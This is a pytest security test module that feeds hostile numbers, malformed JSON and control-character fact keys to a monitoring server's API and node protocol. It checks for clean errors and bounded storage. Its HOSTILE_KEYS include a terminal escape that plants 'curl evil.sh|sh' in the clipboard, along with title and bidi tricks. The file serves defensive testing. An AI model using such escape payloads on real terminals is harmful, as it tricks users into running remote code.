"""Hostile numbers, JSON and fact keys from nodes and clients (security review L1, L3, L4, M4).

Each case is sent to a real server: it gets a clear 400 or the documented `bad_message` error
frame (never a 500 or a silently closed socket), nothing out of range is stored, and every answer
is strict JSON (no bare NaN/Infinity).
"""

from __future__ import annotations

import base64
import json
import sqlite3
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from central.db import DB_FILE
from central.messages import MAX_METRIC_ABS
from tests.support import postgres
from tests.support.fake_node import FakeNode
from tests.support.nodes import greeted
from tests.support.server import CentralServer
from tests.support.wait import wait_for

HOSTILE_KEYS = {
    "\x1b]52;c;Y3VybCBldmlsLnNofHNoCg==\x07": "x",  # OSC 52: the clipboard := "curl evil.sh|sh"
    "\x1b]0;PWNED\x07": "y",  # OSC 0: the window title
    "bidi\u202eevil": "z",
    "os": "\x1b]0;value\x07 [red]v[/red]",  # a value: kept, cleaned where it is shown
}


def strict_loads(text: str | bytes) -> Any:
    """json.loads as a strict parser (a browser's JSON.parse) reads: NaN/Infinity are errors."""
    def refuse(name: str) -> Any:
        raise ValueError(f"{name} is not JSON")
    return json.loads(text, parse_constant=refuse)


def raw_request(server: CentralServer, method: str, path: str, token: str | None,
                body: bytes | None = None) -> tuple[int, bytes]:
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    req = urllib.request.Request(server.url + path, method=method, headers=headers, data=body)
    try:
        with urllib.request.urlopen(req, context=server.ssl_context, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def new_log(server: CentralServer, since: int) -> str:
    """What the server logged after `since` characters (the module shares one server)."""
    return server.log()[since:]


def cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def stored_extremes(server: CentralServer, node_id: str) -> tuple[float, float]:
    """A node's largest magnitude in raw samples and minute aggregates, read from the database."""
    [(raw,)] = server.query("SELECT coalesce(max(abs(value)), 0) FROM metrics_raw WHERE node_id = ?", (node_id,))
    [extremes] = server.query("SELECT coalesce(max(abs(min)), 0), coalesce(max(abs(avg)), 0), coalesce(max(abs(max)), 0)"
                              " FROM metrics_1m WHERE node_id = ?", (node_id,))
    return raw, max(extremes)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CentralServer]:
    """One server for the many cases of this module (each case leaves it as it found it)."""
    srv = CentralServer(tmp_path_factory.mktemp("hostile") / "central").start()
    try:
        srv.enroll("node-a")
        yield srv
    finally:
        srv.stop()


@pytest.fixture(scope="module")
def tokens(server: CentralServer) -> dict[str, str]:
    out = {}
    for name, role in (("v1", "viewer"), ("op1", "operator")):
        status, body = server.api("POST", "/api/v1/operators", {"name": name, "role": role})
        assert status == 201, body
        out[role] = body["token"]
    return out


# -- L3: bad query values and bodies get a 400, never a 500 ---------------------------------------
# Every route reads its body through json_body: the maintenance route stands for them all (the
# review used /register, which refuses before reading a body where self-registration is off).
HTTP_CASES = [
    ("viewer", "GET", f"/api/v1/logs?cursor={cursor('id:99999999999999999999')}", None, "bad_query"),
    ("viewer", "GET", f"/api/v1/events?cursor={cursor('id:99999999999999999999')}", None, "bad_query"),
    ("viewer", "GET", f"/api/v1/logs?node=node-a&cursor={cursor('seq:99999999999999999999')}", None, "bad_query"),
    ("viewer", "GET", f"/api/v1/logs?cursor={cursor('id:-5')}", None, "bad_query"),
    ("viewer", "GET", f"/api/v1/logs?cursor={cursor('id:' + '9' * 5000)}", None, "bad_query"),
    ("viewer", "GET", "/api/v1/logs?limit=%C2%B2", None, "bad_query"),
    ("viewer", "GET", "/api/v1/actions?limit=%C2%B2", None, "bad_query"),
    ("viewer", "GET", "/api/v1/logs?limit=" + "9" * 5000, None, "bad_query"),
    ("viewer", "GET", "/api/v1/nodes/node-a/metrics?from=nan", None, "bad_query"),
    ("viewer", "GET", "/api/v1/nodes/node-a/metrics?from=0&to=inf", None, "bad_query"),
    ("viewer", "GET", "/api/v1/logs?from=-inf", None, "bad_query"),
    ("viewer", "GET", "/api/v1/nodes/node-a/metrics?step=%C2%B2", None, "bad_query"),
    ("viewer", "GET", "/api/v1/nodes/node-a/metrics?step=" + "9" * 5000, None, "bad_query"),
    ("operator", "GET", "/api/v1/nodes/node-a/tunnel?host=x&port=%C2%B2", None, "bad_query"),
    ("operator", "POST", "/api/v1/nodes/node-a/maintenance", b"[" * 100_000, "bad_json"),
    ("operator", "POST", "/api/v1/nodes/node-a/maintenance", b'{"on": ' + b"9" * 5000 + b"}", "bad_json"),
    ("operator", "POST", "/api/v1/nodes/node-a/maintenance", b'{"on": true, "x": ' + b"[" * 40 + b"]" * 40 + b"}",
     "bad_json"),
    ("operator", "POST", "/api/v1/commands", b'{"nodes": ["node-a"], "shell": "true", "timeout": 1e999}', "bad_json"),
    ("operator", "POST", "/api/v1/commands",
     b'{"nodes": ["node-a"], "shell": "true", "timeout": ' + b"9" * 400 + b"}", "bad_json"),
]


@pytest.mark.parametrize(("role", "method", "path", "body", "code"), HTTP_CASES,
                         ids=["logs-id-cursor-beyond-64-bits", "events-cursor-beyond-64-bits",
                              "logs-seq-cursor-beyond-64-bits", "negative-cursor", "5000-digit-cursor",
                              "logs-limit-superscript-2", "actions-limit-superscript-2", "5000-digit-limit",
                              "metrics-from-nan", "metrics-to-inf", "logs-from-minus-inf", "metrics-step-superscript-2",
                              "5000-digit-step", "tunnel-port-superscript-2", "maintenance-100k-brackets",
                              "maintenance-5000-digit-int", "maintenance-nested-40-deep", "command-timeout-1e999",
                              "command-timeout-400-digits"])
def test_bad_values_get_a_400_not_a_500(server: CentralServer, tokens: dict[str, str], role: str | None,
                                        method: str, path: str, body: bytes | None, code: str) -> None:
    logged = len(server.log())
    status, raw = raw_request(server, method, path, tokens[role] if role else None, body)
    assert status == 400, (status, raw[:200])
    error = strict_loads(raw)["error"]
    assert error["code"] == code and error["message"]
    assert "Traceback" not in new_log(server, logged)


def test_huge_but_finite_time_range_is_answered(server: CentralServer, tokens: dict[str, str]) -> None:
    status, raw = raw_request(server, "GET", "/api/v1/nodes/node-a/metrics?from=0&to=1e308", tokens["viewer"])
    assert status in (200, 400), raw[:200]
    strict_loads(raw)


# -- L3, L4, L1: node frames with hostile numbers get bad_message and a 4001 close ----------------
LINE = '{{"type":"logs","lines":[{{"seq":{seq},"ts":{ts},"source":"demo","level":"INFO","msg":"x"}}]}}'
NODE_CASES = {
    "ts-400-digit-int": LINE.format(seq=5, ts="9" * 400),
    "seq-5000-digit-int": LINE.format(seq="9" * 5000, ts=1),
    "ts-1e999": LINE.format(seq=5, ts="1e999"),
    "cpu-400-digit-int": '{"type":"metrics","ts":1,"cpu":{"total":' + "9" * 400 + "}}",
    "cpu-1e999": '{"type":"metrics","ts":1,"cpu":{"total":1e999}}',
    "cpu-1e308": '{"type":"metrics","ts":1,"cpu":{"total":1e308}}',
    "cpu-NaN": '{"type":"metrics","ts":1,"cpu":{"total":NaN}}',
    "ts-1e300": '{"type":"metrics","ts":1e300,"cpu":{"total":1}}',
    "load-1e16": '{"type":"metrics","ts":1,"load":[1e16]}',
    "mem-minus-1e16": '{"type":"metrics","ts":1,"mem":{"percent":-1e16}}',
    "disk-1e20": '{"type":"metrics","ts":1,"disks":[{"percent":1e20}]}',
    "temp-1e308": '{"type":"metrics","ts":1,"temps":[{"celsius":1e308}]}',
    "uptime-1e300": '{"type":"metrics","ts":1,"uptime":1e300}',
    "procs-2e15": '{"type":"metrics","ts":1,"procs":2000000000000000}',
    "net-1e300": '{"type":"metrics","ts":1,"net":{"rx_bytes":1e300}}',
    "sample-extra-Infinity": '{"type":"metrics","ts":1,"cpu":{"total":5,"per_core":[Infinity]}}',
    "sample-extra-1e999": '{"type":"metrics","ts":1,"mem":{"percent":5,"total":1e999}}',
    "event-data-NaN": '{"type":"event","kind":"note","message":"m","data":{"v":NaN,"w":Infinity}}',
    "event-data-1e999": '{"type":"event","kind":"note","message":"m","data":{"v":1e999}}',
    "event-data-400-digits": '{"type":"event","kind":"note","message":"m","data":{"v":' + "9" * 400 + "}}",
    "event-data-deep": '{"type":"event","kind":"note","message":"m","data":' + '{"a":' * 40 + "1" + "}" * 41,
    "100k-brackets": "[" * 100_000,
    "control-seq-minus-1": LINE.format(seq=-1, ts=1),
}


@pytest.mark.parametrize("frame", NODE_CASES.values(), ids=NODE_CASES.keys())
async def test_hostile_numbers_from_a_node_get_bad_message(server: CentralServer, frame: str) -> None:
    bundle = server.enroll(f"n-{time.monotonic_ns()}")
    logged = len(server.log())
    async with greeted(bundle) as node:
        await node.send_raw(frame)
        error = await node.recv()
        assert error["type"] == "error" and error["code"] == "bad_message" and error["message"], error
        assert await node.closed() == 4001
    assert "Traceback" not in new_log(server, logged)


VECTORS = json.loads((Path(__file__).parents[1] / "vectors" / "node_messages.json").read_text())["invalid"]


@pytest.mark.parametrize("case", VECTORS, ids=[f"vector-{i}" for i in range(len(VECTORS))])
async def test_every_invalid_vector_gets_an_error_frame_then_its_close_code(server: CentralServer,
                                                                          case: dict[str, Any]) -> None:
    # The shared vectors, against the real server: never a silent close.
    bundle = server.enroll(f"v-{time.monotonic_ns()}")
    async with FakeNode(bundle) as node:
        await node.connect()
        if '"hello"' not in case["frame"]:
            await node.hello()
        await node.send_raw(case["frame"])
        error = await node.recv()
        assert error["type"] == "error" and error["code"] and error["message"], error
        assert await node.closed() == case["close"]


async def test_the_reviews_overflowing_samples_are_not_stored(server: CentralServer) -> None:
    """l1.py: finite samples (1e308) whose average overflows. None is stored; a good sample after is."""
    bundle = server.enroll("pi-l1")
    now = time.time()
    for ts in (now - 30, now - 2, now - 1):
        async with greeted(bundle) as node:
            await node.send({"type": "metrics", "ts": ts, "cpu": {"total": 1e308}})
            assert (await node.recv())["code"] == "bad_message"
    async with greeted(bundle) as node:
        await node.send({"type": "metrics", "ts": now, "cpu": {"total": 42.0}})
        # The writer commits in order: once this sample is in, anything sent before it would be too.
        wait_for(lambda: stored_extremes(server, bundle["node_id"])[0] == 42.0, what="the good sample")
    assert max(stored_extremes(server, bundle["node_id"])) == 42.0
    for step in (15, 60):
        status, raw = raw_request(server, "GET", f"/api/v1/nodes/pi-l1/metrics?names=cpu&from={now - 120}"
                                  f"&to={now + 1}&step={step}", server.admin_token)
        assert status == 200
        assert [p[1:] for p in strict_loads(raw)["series"]["cpu"]] == [[42.0, 42.0, 42.0]]


async def test_keepalive_metrics_out_of_range_are_refused(server: CentralServer) -> None:
    bundle = server.enroll("esp-huge", kind="esp32")
    logged = len(server.log())
    async with aiohttp.ClientSession() as http:
        for body in (b'{"cpu": 1e308}', b'{"temp": 1e999}', b'{"rssi": ' + b"9" * 400 + b"}", b'{"uptime": NaN}',
                     b"[" * 4000, b'{"cpu": 5, "x": ' + b"[" * 40 + b"]" * 40 + b"}"):
            async with http.post(bundle["keepalive_url"], data=body, ssl=server.ssl_context,
                                 headers={"Authorization": f"Bearer {bundle['token']}"}) as resp:
                assert resp.status == 400, (body, await resp.text())
                assert (await resp.json())["error"]["code"] in ("bad_field", "bad_json")
    assert "Traceback" not in new_log(server, logged)
    assert max(stored_extremes(server, bundle["node_id"])) <= MAX_METRIC_ABS


# -- L1: what is stored stays within the bound; the metrics API stays finite ----------------------
async def test_samples_at_the_bound_are_kept_and_average_finitely(server: CentralServer) -> None:
    bundle = server.enroll("pi-big-numbers")
    now = time.time()
    minute = now - now % 60 - 120  # two samples in one minute bucket: their average is a sum first
    async with greeted(bundle) as node:
        for ts in (minute + 1, minute + 2):
            await node.send({"type": "metrics", "ts": ts, "cpu": {"total": MAX_METRIC_ABS},
                             "net": {"rx_bytes": MAX_METRIC_ABS, "tx_bytes": -MAX_METRIC_ABS}})

        def stored() -> bool:
            _, body = server.api("GET", f"/api/v1/nodes/pi-big-numbers/metrics?from={minute - 60}&to={now}&step=60")
            return len(body["series"].get("cpu", [])) == 1 and body

        wait_for(stored, what="the two samples in the minute aggregate")
    for step in (15, 60):
        status, raw = raw_request(server, "GET", f"/api/v1/nodes/pi-big-numbers/metrics?from={minute - 60}&to={now}"
                                  f"&step={step}", server.admin_token)
        assert status == 200
        series = strict_loads(raw)["series"]
        assert series["cpu"][0][1:] == [MAX_METRIC_ABS] * 3 and series["net_tx"][0][1:] == [-MAX_METRIC_ABS] * 3


@pytest.mark.skipif(postgres.wanted(), reason="only an SQLite database can be older than the bound")
def test_out_of_range_rows_of_an_older_database_are_left_out(tmp_path: Path) -> None:
    """A database written before the bound may hold 1e308 samples: the API still answers finite JSON."""
    srv = CentralServer(tmp_path / "central").start()
    try:
        node_id = srv.enroll("pi-old")["node_id"]
        srv.stop()
        now = time.time()
        bucket = int(now // 60) * 60 - 120
        with sqlite3.connect(srv.data_dir / DB_FILE) as db:
            db.executemany("INSERT INTO metrics_raw (node_id, name, ts, value) VALUES (?, 'cpu', ?, ?)",
                           [(node_id, bucket + 1, 1e308), (node_id, bucket + 2, 1e308), (node_id, bucket + 3, 50.0)])
            db.execute("INSERT INTO metrics_1m (node_id, name, bucket, min, avg, max, count)"
                       " VALUES (?, 'cpu', ?, 1e308, 1e308, 1e308, 2)", (node_id, bucket))
            db.execute("INSERT INTO metrics_1m (node_id, name, bucket, min, avg, max, count)"
                       " VALUES (?, 'cpu', ?, 50, 50, 50, 1)", (node_id, bucket - 60))
        srv.start()
        for step in (15, 60):
            status, raw = raw_request(srv, "GET", f"/api/v1/nodes/pi-old/metrics?from={bucket - 120}&to={now}"
                                      f"&step={step}", srv.admin_token)
            assert status == 200, raw[:200]
            points = strict_loads(raw)["series"]["cpu"]
            assert points and all(v == 50.0 for p in points for v in p[1:]), points
    finally:
        srv.stop()


# -- L4: the API and the live stream answer strict JSON --------------------------------------------
async def test_api_and_stream_answers_are_strict_json(server: CentralServer, tokens: dict[str, str]) -> None:
    bundle = server.enroll("pi-nan")
    frames: list[str] = []
    async with aiohttp.ClientSession() as http:
        stream = await http.ws_connect(server.url.replace("https", "wss") + "/api/v1/stream", ssl=server.ssl_context,
                                       headers={"Authorization": f"Bearer {tokens['viewer']}"})
        async with greeted(bundle) as node:
            # The review's frame (Python's json reads NaN/Infinity): refused, so stored nowhere.
            await node.send_raw('{"type":"event","kind":"note","message":"m","data":{"v":NaN,"w":Infinity}}')
            assert (await node.recv())["code"] == "bad_message"
        async with greeted(bundle) as node:
            await node.send({"type": "event", "kind": "note", "message": "marker", "data": {"v": 1.5}})
            while True:
                msg = await stream.receive(timeout=10)
                assert msg.type == aiohttp.WSMsgType.TEXT, msg
                frames.append(msg.data)
                doc = strict_loads(msg.data)
                if doc["type"] == "event" and doc["event"]["message"] == "marker":
                    break
        await stream.close()
    for path in ("/api/v1/events?node=pi-nan", "/api/v1/nodes/pi-nan", "/api/v1/nodes"):
        status, raw = raw_request(server, "GET", path, tokens["viewer"])
        assert status == 200
        strict_loads(raw)
    _, raw = raw_request(server, "GET", "/api/v1/events?node=pi-nan&kind=note", tokens["viewer"])
    assert [e["message"] for e in strict_loads(raw)["events"]] == ["marker"]
    assert len(frames) >= 2  # hello, ..., the marker: every one parsed strictly


# -- M4: fact keys with control characters are not kept -------------------------------------------
async def test_fact_keys_with_control_characters_are_dropped(server: CentralServer) -> None:
    bundle = server.enroll("pi-keys")
    async with FakeNode(bundle) as node:
        await node.connect()
        await node.send({"type": "hello", "protocol": 1, "daemon_version": "test-0",
                         "facts": {"hostname": "pi-keys", "boot_time": 1e308, **HOSTILE_KEYS}})
        assert (await node.recv())["type"] == "welcome"
        await node.send({"type": "demo", "token": "a1b2c3d4", "name": "d", "pid": 1, "state": "alive",
                         "started_at": 1.0, "header": {"\x1b[2Juser": "x", "user": "demo"}})
        wait_for(lambda: server.node("pi-keys")["demos_list"], what="the demo")
    detail = server.node("pi-keys")
    assert sorted(detail["facts"]) == ["hostname", "os"]  # boot_time 1e308: beyond the bound, dropped too
    assert detail["facts"]["os"] == HOSTILE_KEYS["os"]  # values are kept as sent
    assert detail["demos_list"][0]["header"] == {"user": "demo"}
